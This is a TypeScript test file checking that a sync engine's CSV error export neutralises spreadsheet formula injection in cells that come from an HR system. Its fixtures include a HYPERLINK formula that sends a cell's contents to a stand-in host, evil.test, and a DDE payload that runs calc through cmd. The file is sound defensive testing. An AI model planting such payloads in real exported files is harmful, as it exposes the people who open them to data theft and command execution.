/** Case 9, formula injection: error-file cells starting with = + - @ tab or CR are neutralised, and the file round-trips. */
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { errorFileCsv, safeCell } from '../../src/engine/index.js';
import { describeEachDialect } from '../db.js';
import { fakeWorld, people, sync } from './support/world.js';

const triggers = ['=', '+', '-', '@', '\t', '\r'];
const payloads = [
  '=HYPERLINK("http://evil.test/?x="&A1,"click")',
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tcmd',
  '\r=1',
  "=cmd|' /C calc'!A0",
];

/** What a reader of the file recovers: the cell without the neutralising quote. */
const unquote = (cell: string): string =>
  cell.startsWith("'") && triggers.some((t) => cell.slice(1).startsWith(t)) ? cell.slice(1) : cell;

describe('reliability 9: formula injection, the cell rule', () => {
  it('every trigger is neutralised, other cells are left alone', () => {
    for (const p of payloads) expect(safeCell(p)).toBe(`'${p}`);
    for (const p of ['Jane', "'quoted", ' =lead-space', '5', '']) expect(safeCell(p)).toBe(p);
  });

  it('property: any cells survive stringify → parse, minus the quote, and no parsed cell starts with a trigger', () => {
    // A value that itself starts with a quote before a trigger reads back without it: the scheme's one
    // ambiguity (OWASP accepts it), so such values are left out of the round trip.
    const cell = fc
      .oneof(
        fc.string(),
        fc.constantFrom(...payloads),
        fc.string().map((s) => `${triggers[s.length % triggers.length] ?? ''}${s}`),
      )
      .filter((c) => unquote(c) === c);
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 8 }),
        (rows) => {
          const csv = stringify(rows.map((r) => r.map((c) => safeCell(c))));
          const back: string[][] = parse(csv, { relax_column_count: false });
          return (
            back.length === rows.length &&
            back.every((r, i) =>
              r.every((c, j) => !triggers.some((t) => c.startsWith(t)) && unquote(c) === rows[i]?.[j]),
            )
          );
        },
      ),
      { seed: 9_2026, numRuns: 500 },
    );
  });
});

describeEachDialect('reliability 9: formula injection in a run’s error file', (getStore) => {
  it('hostile source ids and values from the HR system come out neutralised and round-trip', async () => {
    const store = getStore();
    const w = await fakeWorld(store, { roster: people(3) });
    for (const [i, p] of payloads.entries()) {
      w.control.people.push({ id: p, email: p, firstName: p, lastName: `L${i}` });
    }
    const run = await sync(w.deps, w.tenant.id);
    expect(run.counts.errors).toBe(payloads.length);
    const csv = await errorFileCsv(w.deps, run);
    const [header, ...rows]: string[][] = parse(csv);
    expect(header).toEqual(['severity', 'record', 'source_id', 'email', 'field', 'code', 'message']);
    expect(rows.length).toBeGreaterThanOrEqual(payloads.length);
    for (const row of rows)
      for (const cell of row)
        expect(
          triggers.some((t) => cell.startsWith(t)),
          JSON.stringify(cell),
        ).toBe(false);
    const items = await store.runs.listItems(w.tenant.id, run.id, {
      action: ['error', 'warning'],
      limit: 100,
    });
    // Round trip: minus the quote, every cell is what the run stored.
    expect(rows.map((r) => r.map(unquote))).toEqual(
      items.items.map((i) => [
        i.action,
        i.record,
        i.sourceId ?? '',
        i.email ?? '',
        i.field ?? '',
        i.code ?? '',
        i.message ?? '',
      ]),
    );
    // Source ids arrive trimmed ('\tcmd' is stored as 'cmd'); every hostile one is in the file.
    expect(rows.map((r) => unquote(r[2] ?? ''))).toEqual(
      expect.arrayContaining(payloads.map((p) => p.trim())),
    );
  });
});
